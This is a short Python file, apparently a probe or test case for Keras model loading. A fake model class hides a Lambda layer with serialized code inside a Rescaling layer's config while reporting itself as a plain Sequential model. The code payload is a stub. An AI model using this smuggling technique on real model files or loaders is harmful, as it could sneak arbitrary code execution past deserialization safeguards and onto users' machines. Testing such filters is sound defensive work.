# tries: hide a class under the name of what is left out, where it is not left out
import json

import keras


class Claim(keras.Model):
    built = property(lambda self: True, lambda self, value: None)

    def to_json(self):
        return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [
            {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 3]}},
            {"module": "keras.layers", "class_name": "Rescaling", "config": {"scale": {"compile_config": {"module": "keras.layers",
                "class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "AAAA"}}}}}}}]}})

    def get_weights(self):
        return []


def build(x):
    return Claim()
